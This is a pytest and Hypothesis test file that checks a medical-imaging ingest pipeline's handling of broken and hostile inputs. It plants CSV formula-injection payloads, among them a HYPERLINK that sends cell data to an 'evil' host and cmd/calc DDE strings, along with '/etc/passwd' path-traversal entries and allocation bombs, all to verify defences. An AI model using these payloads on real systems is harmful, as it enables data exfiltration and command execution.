"""Hostile and broken inputs: each gives a named, one-line error, nothing partial is written and the
other patients are unharmed. Hypothesis fuzzes the NIfTI header, DICOM geometry, the cohort tables
and the GMT reader (bounded ``max_examples``; ``deadline=None`` on two shared cores)."""

from __future__ import annotations

import csv
import gzip
import io
import os
import shutil
import struct
import subprocess
import sys
from pathlib import Path

import nibabel as nib
import numpy as np
import pyarrow.parquet as pq
import pydicom
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from kit.images import image_cohort

from analysis.gmt import GeneSetError, read_gmt
from dltr.core.exceptions import CohortError
from pipeline.ingest import (
    IngestConfig,
    IngestReadError,
    ingest_cohort,
    read_image,
    to_canonical,
)

REPO = Path(__file__).resolve().parents[1]
FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
N_FUZZED: dict[str, int] = {}  # inputs tried per family (summed by the report in docs/guarantees.md)


def _count(family: str) -> None:
    N_FUZZED[family] = N_FUZZED.get(family, 0) + 1


def _named_or_volume(path: Path) -> None:
    """The reader's contract: a Volume with a finite, invertible affine, or an IngestReadError naming the file."""
    try:
        vol = to_canonical(read_image(path))
    except IngestReadError as e:
        assert str(path.name) in str(e)
        return
    assert vol.voxels.ndim == 3 and np.isfinite(vol.affine).all()
    assert abs(np.linalg.det(vol.affine[:3, :3])) > 0


# -- NIfTI headers ---------------------------------------------------------------------------------
def _nifti_bytes(shape=(6, 5, 4)) -> bytearray:
    data = (np.arange(np.prod(shape)) % 97).astype(np.int16).reshape(shape)
    img = nib.Nifti1Image(data, np.diag([0.8, 0.9, 3.0, 1.0]))
    return bytearray(img.to_bytes())


VALID_DTYPES = [2, 4, 8, 16, 64, 256, 512, 768]  # uint8 int16 int32 float32 float64 int8 uint16 uint32


PIXDIM = st.lists(st.sampled_from([0.0, -1.0, 1e-30, 0.5, 2.0, 1e30, float("nan"), float("inf")]),
                  min_size=8, max_size=8)


@FUZZ
@given(dims=st.lists(st.integers(1, 40), min_size=3, max_size=3), pixdim=PIXDIM,
       dtype=st.sampled_from(VALID_DTYPES), vox_offset=st.sampled_from([352.0, 353.0, 4096.0, 1e9, float("nan")]),
       qform=st.integers(0, 4), sform=st.integers(0, 4))
@example(dims=[1, 1, 1], pixdim=[0.0, 0.0, 0.0, float("nan"), 0.0, 0.0, 0.0, 0.0], dtype=2, vox_offset=352.0,
         qform=0, sform=0)  # a NaN spacing gave a NaN affine that failed in to_canonical's SVD (found in CI)
def test_fuzzed_nifti_geometry_gives_volume_or_named_error(tmp_path, dims, pixdim, dtype, vox_offset, qform, sform):
    """pixdim, vox_offset, qform/sform codes, the three sizes and the datatype (valid codes) fuzzed."""
    _count("nifti-header")
    _write_fuzzed(tmp_path / "fuzz.nii", [3, *dims, 1, 1, 1, 1], pixdim, dtype, vox_offset, qform, sform)
    _named_or_volume(tmp_path / "fuzz.nii")


def _write_fuzzed(p: Path, dims, pixdim, dtype, vox_offset, qform, sform) -> None:
    b = _nifti_bytes()
    b[40:56] = struct.pack("<8h", *dims)
    b[70:72] = struct.pack("<h", dtype)
    b[76:108] = struct.pack("<8f", *pixdim)
    b[108:112] = struct.pack("<f", vox_offset)
    b[252:256] = struct.pack("<2h", qform, sform)
    p.write_bytes(bytes(b))


@FUZZ
@given(dims=st.lists(st.integers(-3, 40), min_size=8, max_size=8), pixdim=PIXDIM,
       dtype=st.integers(-5, 3000), vox_offset=st.sampled_from([0.0, 100.0, 352.0, 1e9, float("nan")]))
@example(dims=[-1, 0, 0, 0, 0, 0, 0, 0], pixdim=[1.0] * 8, dtype=4, vox_offset=352.0)
def test_fully_fuzzed_nifti_header_gives_volume_or_named_error(tmp_path, dims, pixdim, dtype, vox_offset):
    """Every header field fuzzed, dim[0] and the datatype code included."""
    _count("nifti-header")
    _write_fuzzed(tmp_path / "fuzz.nii", dims, pixdim, dtype, vox_offset, 1, 1)
    _named_or_volume(tmp_path / "fuzz.nii")


@pytest.mark.parametrize(("dtype", "vox_offset"), [(1234, 352.0), (4, 100.0), (4, 0.0)])
def test_invalid_nifti_datatype_or_offset_is_a_named_error(tmp_path, dtype, vox_offset):
    _count("nifti-header")
    p = tmp_path / "hdr.nii"
    _write_fuzzed(p, [3, 6, 5, 4, 1, 1, 1, 1], [1.0, 0.8, 0.9, 3.0, 1.0, 1.0, 1.0, 1.0], dtype, vox_offset, 1, 1)
    with pytest.raises(IngestReadError, match="hdr.nii"):
        read_image(p)


@FUZZ
@given(cut=st.floats(0.6, 0.999))
def test_gzip_truncated_in_the_voxels_is_a_named_error(tmp_path, cut):
    _count("truncated-gzip")
    full = gzip.compress(bytes(_nifti_bytes((40, 36, 12))), compresslevel=0)  # header in the first 2 %
    p = tmp_path / "trunc.nii.gz"
    p.write_bytes(full[: int(len(full) * cut)])
    with pytest.raises(IngestReadError, match="trunc.nii.gz"):
        read_image(p)


def test_short_nifti_error_is_one_line(tmp_path):
    p = tmp_path / "short.nii"
    p.write_bytes(bytes(_nifti_bytes())[:-20])
    with pytest.raises(IngestReadError) as e:
        read_image(p)
    assert "\n" not in str(e.value)


def test_empty_nifti_file_is_a_named_error(tmp_path):
    _count("truncated-gzip")
    p = tmp_path / "empty.nii.gz"
    p.write_bytes(b"")
    with pytest.raises(IngestReadError, match="empty.nii.gz"):
        read_image(p)


def test_one_bad_nifti_header_does_not_fail_the_other_patients(tmp_path):
    root, _ = image_cohort(tmp_path / "c", per_center=1, seed=2)
    p = root / "images" / "P001" / "portal.nii"  # center B: plain NIfTI
    b = bytearray(p.read_bytes())
    b[70:72] = struct.pack("<h", 1234)
    p.write_bytes(bytes(b))
    rep, errs = _ingest(root, tmp_path / "store")
    assert [(e["patient_id"], e["code"]) for e in errs] == [("P001", "corrupt_file")] and rep.ok == 2


@FUZZ
@given(cut=st.floats(0.01, 0.999))
@example(cut=0.5)
def test_truncated_gzip_is_a_named_error(tmp_path, cut):
    _count("truncated-gzip")
    full = gzip.compress(bytes(_nifti_bytes((20, 18, 6))))
    p = tmp_path / "trunc.nii.gz"
    p.write_bytes(full[: int(len(full) * cut)])
    with pytest.raises(IngestReadError, match="trunc.nii.gz"):
        read_image(p)


# -- DICOM -----------------------------------------------------------------------------------------
def _one_slice(path: Path, **over) -> None:
    from pydicom.dataset import FileDataset, FileMetaDataset
    from pydicom.uid import ExplicitVRLittleEndian, MRImageStorage, generate_uid

    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID = MRImageStorage, generate_uid()
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    ds = FileDataset(str(path), {}, file_meta=meta, preamble=b"\0" * 128)
    ds.SOPClassUID, ds.SOPInstanceUID, ds.Modality = MRImageStorage, meta.MediaStorageSOPInstanceUID, "MR"
    ds.Rows, ds.Columns = 8, 6
    ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, "MONOCHROME2"
    ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = 16, 16, 15, 1
    ds.ImageOrientationPatient, ds.ImagePositionPatient = [1, 0, 0, 0, 1, 0], [0, 0, 0]
    ds.PixelSpacing, ds.SliceThickness = [1.0, 1.0], 2.0
    ds.PixelData = np.arange(48, dtype=np.int16).tobytes()
    for k, v in over.items():
        if v is None:
            delattr(ds, k)
        elif isinstance(v, str):  # raw bytes: pydicom would refuse to even hold an invalid DS string
            from pydicom.datadict import tag_for_keyword
            from pydicom.dataelem import RawDataElement

            raw = v.encode() + (b" " if len(v) % 2 else b"")
            tag = tag_for_keyword(k)
            ds[tag] = RawDataElement(pydicom.tag.Tag(tag), "DS", len(raw), raw, 0, False, True)
        else:
            setattr(ds, k, v)
    ds.save_as(str(path), enforce_file_format=True)


DS_VALUES = st.sampled_from(["0", "-1", "1", "1e308", "nan", "inf", "abc", "", "1\\2", "0.5\\0.5\\0.5"])


@FUZZ
@given(ipp=st.lists(DS_VALUES, min_size=0, max_size=4), iop=st.lists(DS_VALUES, min_size=0, max_size=7),
       ps=st.lists(DS_VALUES, min_size=0, max_size=3), slope=DS_VALUES, rows=st.sampled_from([0, 1, 8, 9, 65535]))
def test_fuzzed_dicom_geometry_gives_volume_or_named_error(tmp_path, ipp, iop, ps, slope, rows):
    _count("dicom-header")
    p = tmp_path / "s.dcm"
    import warnings

    with warnings.catch_warnings():  # pydicom warns about the invalid DS strings we plant on purpose
        warnings.simplefilter("ignore")
        pydicom.config.settings.writing_validation_mode = pydicom.config.IGNORE
        pydicom.config.settings.reading_validation_mode = pydicom.config.IGNORE
        try:
            _one_slice(p, ImagePositionPatient="\\".join(ipp), ImageOrientationPatient="\\".join(iop),
                       PixelSpacing="\\".join(ps), RescaleSlope=slope, Rows=rows)
        finally:
            pydicom.config.settings.writing_validation_mode = pydicom.config.WARN
            pydicom.config.settings.reading_validation_mode = pydicom.config.WARN
        _named_or_volume(p)


def _ingest(cohort: Path, store: Path):
    rep = ingest_cohort(cohort, store, IngestConfig(), executor="serial")
    errs = pq.read_table(store / "ingest" / "errors.parquet").to_pylist()
    return rep, errs


def _stored(store: Path) -> list[str]:
    vz = store / "volumes.zarr"
    return sorted(p.name for p in vz.iterdir() if p.is_dir() and not p.name.startswith("."))


@pytest.fixture(scope="module")
def dicom_cohort(tmp_path_factory):
    """Center C (DICOM) patients P006..P008, each broken in its geometry; A and B patients sound."""
    root, _ = image_cohort(tmp_path_factory.mktemp("geo") / "c", per_center=3, seed=4)
    files = {pid: sorted((root / "images" / pid / "arterial").glob("*.dcm")) for pid in ("P006", "P007", "P008")}
    edits = {"P006": ("ImageOrientationPatient", [0, 1, 0, 0, 0, -1]),  # one slice sagittal
             "P007": ("PixelSpacing", [0.5, 0.5]),  # one slice with another pixel spacing
             "P008": ("ImagePositionPatient", None)}  # one slice without a position
    for pid, (attr, value) in edits.items():
        f = files[pid][2]
        ds = pydicom.dcmread(str(f))
        if value is None:
            delattr(ds, attr)
        else:
            setattr(ds, attr, value)
        ds.save_as(str(f))
    return root


def test_dicom_with_inconsistent_geometry_is_refused_and_others_complete(dicom_cohort, tmp_path):
    rep, errs = _ingest(dicom_cohort, tmp_path)
    got = {(e["patient_id"], e["code"]) for e in errs}
    assert got == {("P006", "inconsistent_geometry"), ("P007", "inconsistent_geometry"),
                   ("P008", "inconsistent_geometry")}
    assert all(e["file"] == f"images/{e['patient_id']}/arterial" and e["row"] >= 1 for e in errs)
    assert _stored(tmp_path) == [f"P00{i}" for i in range(6)]  # nothing of the broken ones, all the rest
    studies = pq.read_table(tmp_path / "ingest" / "studies.parquet").column("patient_id").to_pylist()
    assert sorted(set(studies)) == [f"P00{i}" for i in range(6)] and rep.failed == 3


# -- allocation bombs ------------------------------------------------------------------------------
BOMB = r"""
import gzip, resource, sys
import numpy as np, nibabel as nib
from pathlib import Path
from pipeline.ingest import read_image, IngestReadError
kind, shape, d = sys.argv[1], tuple(int(x) for x in sys.argv[2].split("x")), Path(sys.argv[3])
if kind in ("nii", "nii.gz"):
    hdr = nib.Nifti1Header(); hdr.set_data_dtype(np.int16); hdr.set_data_shape(shape)
    raw = hdr.binaryblock + b"\0" * 4 + b"\1" * 4096
    p = d / f"bomb.{kind}"
    p.write_bytes(gzip.compress(raw) if kind.endswith("gz") else raw)
else:
    p = d / "bomb.nrrd"
    p.write_bytes(f"NRRD0004\ntype: short\ndimension: 3\nsizes: {shape[0]} {shape[1]} {shape[2]}\n"
                  "space: left-posterior-superior\nspace directions: (1,0,0) (0,1,0) (0,0,1)\n"
                  "encoding: raw\nendian: little\n\n".encode() + b"\1" * 4096)
vm = int([l for l in open("/proc/self/status") if l.startswith("VmSize")][0].split()[1]) * 1024
resource.setrlimit(resource.RLIMIT_AS, (vm + (600 << 20), resource.RLIM_INFINITY))  # a bomb fails fast
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    read_image(p)
    out = "read"
except IngestReadError as e:
    out = type(e).__name__
except BaseException as e:
    out = "raw " + type(e).__name__
print(out, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) // 1024)
"""


def _bomb(kind: str, shape: str, tmp_path: Path) -> tuple[str, int]:
    env = {**os.environ, "PYTHONPATH": str(REPO), "OPENBLAS_NUM_THREADS": "1"}
    p = subprocess.run([sys.executable, "-c", BOMB, kind, shape, str(tmp_path)], cwd=REPO, env=env,
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr[-2000:]
    out, grew = p.stdout.split()[-2:] if " " in p.stdout.strip() else (p.stdout, "0")
    return p.stdout.strip().rsplit(" ", 1)[0], int(grew)


@pytest.mark.parametrize("kind", ["nii", "nii.gz", "nrrd"])
def test_declared_size_above_limit_is_refused_before_allocating(tmp_path, kind):
    _count("allocation-bomb")
    what, grew_mb = _bomb(kind, "5000x5000x5000", tmp_path)
    assert what == "TooLargeError" and grew_mb < 100


@pytest.mark.parametrize("kind", ["nii", "nii.gz"])
def test_declared_size_larger_than_file_is_refused_before_allocating(tmp_path, kind):
    _count("allocation-bomb")
    what, grew_mb = _bomb(kind, "2048x2048x190", tmp_path)  # under max_voxels, but 4 KB of data
    assert what in ("CorruptFileError", "TooLargeError") and grew_mb < 100


# -- paths that leave the cohort ---------------------------------------------------------------------
@pytest.fixture
def traversal_cohort(tmp_path):
    root, _ = image_cohort(tmp_path / "c", per_center=2, seed=6)
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.nii.gz"
    shutil.copy(root / "images" / "P000" / "arterial.nii.gz", secret)
    (root / "images" / "link.nii.gz").symlink_to(secret)  # a symlink out of the cohort
    (root / "images" / "linkdir").symlink_to(outside, target_is_directory=True)
    rows = list(csv.DictReader(io.StringIO((root / "manifest.csv").read_text())))
    bad = {"P000": "../../etc/passwd", "P001": "/etc/passwd", "P002": "images/link.nii.gz",
           "P003": "images/linkdir/secret.nii.gz"}
    for r in rows:
        if r["patient_id"] in bad and r["phase"] == "arterial":
            r["image"] = bad[r["patient_id"]]
    with open(root / "manifest.csv", "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return root, bad


def test_paths_leaving_the_cohort_are_refused_per_row(traversal_cohort, tmp_path):
    _count("path-traversal")
    root, bad = traversal_cohort
    rep, errs = _ingest(root, tmp_path / "store")
    assert {e["patient_id"]: e["code"] for e in errs} == {p: "path_outside_cohort" for p in bad}
    assert all(e["phase"] == "arterial" and e["file"] == bad[e["patient_id"]] for e in errs)
    assert _stored(tmp_path / "store") == ["P004", "P005"] and rep.ok == 2


@pytest.mark.parametrize("inside", [False, True], ids=["outside-refused", "inside-read"])
def test_symlink_inside_a_dicom_series_is_refused(tmp_path, inside):
    """A slice symlinked out of the cohort is refused; one linked from elsewhere inside the cohort is read."""
    root, _ = image_cohort(tmp_path / "c", per_center=1, seed=6)
    target = (root / "archive") if inside else (tmp_path / "outside")
    target.mkdir()
    f = sorted((root / "images" / "P002" / "portal").glob("*.dcm"))[0]
    shutil.move(f, target / "slice.dcm")
    f.symlink_to(target / "slice.dcm")
    rep, errs = _ingest(root, tmp_path / "store")
    if inside:
        assert errs == [] and rep.ok == 3
    else:
        assert [(e["patient_id"], e["code"]) for e in errs] == [("P002", "path_outside_cohort")]


# -- cohort tables: injection, encodings, dates ------------------------------------------------------
@pytest.fixture
def table_cohort(tmp_path):
    root, _ = image_cohort(tmp_path / "c", per_center=1, seed=8)
    return root, (root / "clinical.csv").read_text()


def _with_column(text: str, name: str, values: list[str]) -> str:
    rows = list(csv.reader(io.StringIO(text)))
    rows[0].append(name)
    for r, v in zip(rows[1:], values, strict=True):
        r.append(v)
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def test_formula_injection_is_flagged_and_kept_as_inert_text(table_cohort):
    from dltr.cohort import load_cohort, validate_cohort

    _count("csv-injection")
    root, text = table_cohort
    payloads = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0"]
    (root / "clinical.csv").write_text(_with_column(text, "note", payloads))
    issues = [i for i in validate_cohort(root).issues if i.column == "note"]
    assert [(i.row, i.severity) for i in issues] == [(1, "warning"), (2, "warning"), (3, "warning")]
    assert all("injection" in i.reason and i.file == "clinical.csv" for i in issues)
    c = load_cohort(root)
    assert c.clinical["note"].tolist() == payloads and len(c.clinical) == 3  # verbatim text, no row dropped


def test_bom_latin1_and_utf16_clinical_tables(table_cohort):
    from dltr.cohort import load_cohort

    _count("encoding")
    root, text = table_cohort
    plain = load_cohort(root).clinical
    (root / "clinical.csv").write_bytes(b"\xef\xbb\xbf" + text.encode())  # Excel's UTF-8 with BOM
    assert load_cohort(root).clinical.equals(plain)
    for _enc, data in (("latin-1", _with_column(text, "surgeon", ["Müller"] * 3).encode("latin-1")),
                      ("utf-16", text.encode("utf-16"))):
        (root / "clinical.csv").write_bytes(data)
        with pytest.raises(CohortError, match=r"clinical\.csv.*(utf-8|decode)"):
            load_cohort(root)


@pytest.mark.parametrize("value", ["1066-10-14", "2999-01-01", "2020-02-30", "0000-00-00", "20200201"])
def test_out_of_range_dates_are_reported_per_row(table_cohort, value):
    from dltr.cohort import load_cohort, validate_cohort

    _count("dates")
    root, text = table_cohort
    rows = list(csv.DictReader(io.StringIO(text)))
    rows[1]["tace_date"] = value
    out = io.StringIO()
    w = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    (root / "clinical.csv").write_text(out.getvalue())
    issues = [i for i in validate_cohort(root).issues if i.column == "tace_date"]
    assert [(i.file, i.row) for i in issues] == [("clinical.csv", 2)] and value in issues[0].reason
    c = load_cohort(root)
    assert c.clinical["tace_date"].isna().tolist() == [False, True, False]  # the sound rows go on


def test_invalid_dicom_study_date_does_not_fail_the_run(tmp_path):
    _count("dates")
    root, _ = image_cohort(tmp_path / "c", per_center=1, seed=8)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for f in (root / "images" / "P002" / "arterial").glob("*.dcm"):
            ds = pydicom.dcmread(str(f))
            ds.StudyDate = "20231399"
            ds.save_as(str(f))
    rep, _errs = _ingest(root, tmp_path / "store")
    assert rep.ok + rep.failed == 3 and {"P000", "P001"} <= set(_stored(tmp_path / "store"))


# no NUL and no lone CR (pandas' C parser splits a quoted "\r" into two records: see the report)
CELL = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r"), max_size=12)


def _overflows(text: str) -> bool:
    try:
        return not abs(float(text)) < 2**63
    except ValueError:
        return False


@pytest.mark.parametrize("value", ["INF", "1E100"])
def test_huge_covariate_value_does_not_break_the_cohort(table_cohort, value):
    from dltr.cohort import load_cohort

    _count("clinical-table")
    root, text = table_cohort
    (root / "clinical.csv").write_text(_with_column(text, "afp", ["12", value, "7"]))
    c = load_cohort(root)
    assert len(c.clinical) == 3 and c.clinical["afp"].iloc[0] == 12


@FUZZ
@given(cells=st.lists(st.tuples(CELL, CELL, CELL.filter(lambda t: not _overflows(t))), min_size=1, max_size=5))
def test_fuzzed_clinical_table_is_reported_never_crashes(tmp_path_factory, cells):
    from dltr.cohort import load_cohort, validate_cohort

    _count("clinical-table")
    root = tmp_path_factory.mktemp("fz")
    (root / "manifest.csv").write_text("patient_id,phase,image\n")
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(["patient_id", "center", "tace_date", "note"])
    for i, (center, date, note) in enumerate(cells):
        w.writerow([f"P{i}", center, date, note])
    (root / "clinical.csv").write_text(out.getvalue(), encoding="utf-8")
    rep = validate_cohort(root)  # never raises on a folder
    try:
        c = load_cohort(root)
    except CohortError as e:
        assert "clinical.csv" in str(e) or "manifest.csv" in str(e)
        return
    assert len(c.clinical) == len(cells)
    bad_dates = {i.row for i in rep.issues if i.column == "tace_date"}
    lost = [r for r in range(1, len(cells) + 1) if c.clinical["tace_date"].isna()[r - 1]]
    assert set(lost) <= bad_dates  # no date becomes null without a report naming its row


# -- GMT ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("body", "line", "what"), [
    ("SET_A\tdesc\tTP53\tKRAS\nSET_B\tdesc\n", 2, "at least"),
    ("SET_A\tdesc\tTP53\n\n\tdesc\tEGFR\n", 3, "empty gene-set name"),
    ("SET_A\tdesc\tTP53\nSET_A\tdesc\tEGFR\n", 2, "twice"),
    ("SET_A\tdesc\tTP53\t\tEGFR\n", 1, "empty gene field"),
    ("just one line without tabs\n", 1, "at least"),
])
def test_malformed_gmt_lines_name_file_and_line(tmp_path, body, line, what):
    _count("gmt")
    p = tmp_path / "sets.gmt"
    p.write_text(body)
    with pytest.raises(GeneSetError, match=rf"sets\.gmt line {line}: .*{what}"):
        read_gmt(p)


@FUZZ
@given(raw=st.binary(max_size=300) | st.text(st.sampled_from("AB\t\n\r x1é"), max_size=200).map(str.encode))
def test_fuzzed_gmt_gives_sets_or_named_error(tmp_path_factory, raw):
    _count("gmt")
    p = tmp_path_factory.mktemp("gmt") / "f.gmt"
    p.write_bytes(raw)
    try:
        sets = read_gmt(p)
    except GeneSetError as e:
        assert "f.gmt" in str(e)
        return
    assert sets and all(s.genes and all(g and "\t" not in g for g in s.genes) for s in sets.values())


# -- added with the fixes for issues #3 / #11 ---------------------------------------------------------
@pytest.mark.parametrize("endian", ["<", ">"])
def test_bounded_gzip_read_equals_nibabel(tmp_path, endian):
    """The reader decompresses .nii.gz itself (bounded): values must equal nibabel's own scaled read,
    big-endian storage and scl_slope/inter included."""
    data = (np.arange(7 * 6 * 5) % 251 - 100).astype(np.dtype(endian + "i2")).reshape(7, 6, 5)
    img = nib.Nifti1Image(data, np.diag([0.8, 0.9, 3.0, 1.0]))
    img.header.set_slope_inter(0.5, -3.0)
    p = tmp_path / "be.nii.gz"
    nib.save(img, p)
    ref = nib.load(p).get_fdata()
    vol = read_image(p)
    assert np.array_equal(np.asarray(vol.voxels, dtype=np.float64), ref)
    assert np.allclose(vol.affine, nib.load(p).affine)


def test_gzip_with_far_more_data_than_declared_is_refused(tmp_path):
    """Decompressing the rest of the stream (for the CRC check) is bounded too."""
    raw = bytes(_nifti_bytes((6, 5, 4))) + b"\0" * (40 << 20)
    p = tmp_path / "tail.nii.gz"
    p.write_bytes(gzip.compress(raw, compresslevel=1))
    with pytest.raises(IngestReadError, match=r"tail\.nii\.gz: decompresses to more"):
        read_image(p)


def test_declared_nrrd_larger_than_file_is_refused_before_allocating(tmp_path):
    _count("allocation-bomb")
    what, grew_mb = _bomb("nrrd", "2048x2048x190", tmp_path)
    assert what in ("CorruptFileError", "TooLargeError") and grew_mb < 100


@pytest.mark.parametrize(("raw", "iso"), [("20240229", "2024-02-29"), ("20230229", None), ("20231399", None),
                                           ("20230100", None), ("2023011", None), ("２０２３０１０１", None)])
def test_dicom_study_date_is_a_calendar_date(tmp_path, raw, iso):
    _count("dates")
    import warnings

    folder = tmp_path / "series"
    folder.mkdir()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pydicom warns about the invalid DA values we plant on purpose
        for k in range(3):
            _one_slice(folder / f"{k}.dcm", ImagePositionPatient=[0, 0, 2.0 * k], StudyDate=raw)
        vol = read_image(folder)
    assert vol.meta["study_date"] == iso  # reference: the proleptic Gregorian calendar (datetime.date)


def test_slice_error_names_the_ordinal_not_the_file(tmp_path):
    uid = "1.2.826.0.1.3680043.8.498.99999"
    folder = tmp_path / "series"
    folder.mkdir()
    for k in range(3):
        _one_slice(folder / f"{uid}.{k}.dcm", ImagePositionPatient=[0, 0, 2.0 * k], **({"PixelData": None} if k == 1
                                                                                       else {}))
    with pytest.raises(IngestReadError) as e:
        read_image(folder)
    assert f"{folder} slice 2 of 3" in str(e.value) and uid not in str(e.value)


@pytest.mark.parametrize(("cells", "dtype", "first"), [
    (["12", "9007199254740993", "7"], "float64", 12.0),  # 2**53 + 1: not exact in float64, so not Int64
    (["12", "-INF", "7"], "float64", 12.0),
    (["12", "900719925474099", "7"], "Int64", 12),  # whole numbers float64 holds exactly stay integers
])
def test_covariate_dtype_never_wraps(table_cohort, cells, dtype, first):
    from dltr.cohort import load_cohort

    root, text = table_cohort
    (root / "clinical.csv").write_text(_with_column(text, "afp", cells))
    col = load_cohort(root).clinical["afp"]
    assert str(col.dtype) == dtype and col.iloc[0] == first
    assert [float(v) for v in col] == [float(c) for c in cells]  # the value read, by Python's own float()


@pytest.mark.parametrize(("column", "value", "reported"), [
    ("tace_date", "2020-02-01T10:00", True), ("tace_date", " 2020-02-01", True), ("tace_date", "2020-2-1", True),
    ("tace_date", "2024-02-29", False), ("measured_at", "2020-02-01T10:00", False),
    ("measured_at", "20200201T1000", True), ("measured_at", "2020-02-01T25:00", True)])
def test_validate_and_load_agree_on_dates(table_cohort, column, value, reported):
    """One parser: a date cell is reported by validate_cohort exactly when load_cohort nulls it."""
    from dltr.cohort import load_cohort, validate_cohort

    root, text = table_cohort
    if column == "tace_date":
        rows = list(csv.DictReader(io.StringIO(text)))
        rows[0]["tace_date"] = value
        out = io.StringIO()
        w = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
        (root / "clinical.csv").write_text(out.getvalue())
    else:
        pid = next(csv.DictReader(io.StringIO(text)))["patient_id"]
        (root / "labs.csv").write_text(f"patient_id,name,value,measured_at\n{pid},afp,12,{value}\n")
    issues = [i for i in validate_cohort(root).issues if i.column == column and i.row == 1]
    c = load_cohort(root)
    table = c.clinical if column == "tace_date" else c.labs
    assert bool(issues) == reported and bool(table[column].isna().iloc[0]) == reported
